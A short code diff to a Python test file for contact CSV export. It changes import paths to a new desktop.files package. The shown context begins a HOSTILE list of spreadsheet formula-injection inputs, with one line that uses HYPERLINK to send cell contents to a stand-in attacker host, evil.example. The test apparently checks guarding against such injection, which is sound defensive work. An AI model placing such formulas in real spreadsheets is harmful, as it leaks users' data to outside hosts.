@@ -11,7 +11,6 @@ from datetime import UTC, datetime
 
 import pytest
 
-from desktop.contacts_io import read_csv, write_csv
 from desktop.core.models import Contact, ContactId
 from desktop.core.optouts import OptOut
 from desktop.core.spreadsheet import (
@@ -20,7 +19,8 @@ from desktop.core.spreadsheet import (
     guard_numbers_cell,
     unguard_cell,
 )
-from desktop.export import ExportRow, opt_outs_to_csv, to_csv
+from desktop.files.contacts import read_csv, write_csv
+from desktop.files.export import ExportRow, opt_outs_to_csv, to_csv
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
